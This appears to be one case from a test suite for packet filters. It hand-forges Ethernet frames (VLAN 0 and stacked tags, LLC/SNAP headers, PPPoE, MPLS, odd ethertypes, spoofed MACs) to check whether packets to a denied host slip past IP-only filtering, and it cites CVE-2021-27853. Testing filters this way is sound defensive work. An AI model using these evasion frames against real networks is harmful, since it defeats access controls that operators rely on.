"""Frames made by hand: what is below IP, where a filter of IP packets sees nothing."""

from collections.abc import Iterator

from attack.case import Group, case
from attack.forging import NEEDS, a_datagram_by_hand, forge
from attack.scene import Scene
from attack.world import DENIED


@case(Group.PATH, control=a_datagram_by_hand, needs=NEEDS)
def a_frame_of_another_type_reaches_nobody(scene: Scene) -> Iterator[str]:
    """VLAN tags (802.1Q, 802.1ad, stacked), PPPoE, MPLS, LLDP, EAPOL, and IP under a foreign type, around denied packets.

    Layer 2 filters were passed by VLAN 0 tags and LLC/SNAP headers in front of IP (CVE-2021-27853 and its kin,
    CERT/CC VU#855201).
    """
    yield from forge(
        scene,
        f"""
        ends = (wire.address4, "{DENIED.address4}")
        packet4 = ipv4(*ends, UDP, udp_datagram(*ends, (new_port(), 7), TOKEN))
        ends = (wire.address6, "{DENIED.address6}")
        packet6 = ipv6(*ends, UDP, udp_datagram(*ends, (new_port(), 7), TOKEN))
        for packet, kind in ((packet4, struct.pack("!H", IPV4)), (packet6, struct.pack("!H", IPV6))):
            for tags in ("81000000", "81000001", "88a80000", "8100000081000000", "88a8000081000000", "8100e000"):
                wire.frame(wire.router_mac + wire.mac + bytes.fromhex(tags) + kind + packet)
            snap = bytes.fromhex("aaaa03000000") + kind + packet
            wire.frame(wire.router_mac + wire.mac + struct.pack("!H", len(snap)) + snap)
            wire.frame(wire.router_mac + wire.mac + bytes.fromhex("81000000") + struct.pack("!H", len(snap)) + snap)
            pppoe = bytes.fromhex("11000001") + struct.pack("!H", len(packet) + 2) + b"\\x00\\x21" + packet
            wire.send(pppoe, kind=0x8864)
            wire.send(bytes.fromhex("000641ff") + packet, kind=0x8847)
            for other in (0x88CC, 0x888E, 0x8035, 0x0600, 0x9000, 0x22F0, 0x88F7, IPV4 if kind[0] == 0x86 else IPV6):
                wire.send(packet, kind=other)
            for mac in (b"\\xff" * 6, bytes.fromhex("01005e000001"), bytes.fromhex("0180c2000000"), bytes(6), b"\\x02" * 6):
                wire.send(packet, to=mac)
                wire.send(packet, mac=mac)
            wire.send(packet, mac=wire.router_mac)
        """,
        to=(DENIED.address4, DENIED.address6),
    )
